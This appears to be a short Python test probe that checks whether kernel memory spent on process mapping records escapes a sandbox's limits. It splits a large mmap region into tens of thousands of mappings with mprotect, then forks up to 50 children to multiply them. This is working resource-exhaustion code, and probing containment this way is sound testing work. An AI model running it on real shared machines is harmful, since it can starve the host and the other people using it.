# tries: to make the kernel hold more memory than allowed for its records of the mappings of many processes
# escaped if: ESCAPED is printed
# status: ok out_of_memory script_error timed_out
import ctypes, os, time
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
at = libc.mmap(None, 65000 * 4096, 1, 0x4022, -1, 0)
mappings = sum(libc.mprotect(at + page * 4096, 4096, 0) == 0 for page in range(0, 65000, 2)) * 2
children = 0
try:
    while children < 50:
        if os.fork() == 0:
            time.sleep(20)
            os._exit(0)
        children += 1
except OSError as error:
    print(error)
time.sleep(10)  # for the watchdog, also on a busy machine
print("ESCAPED" if mappings * children > 2_800_000 else "held", mappings * children, "records")  # of 200 bytes and more
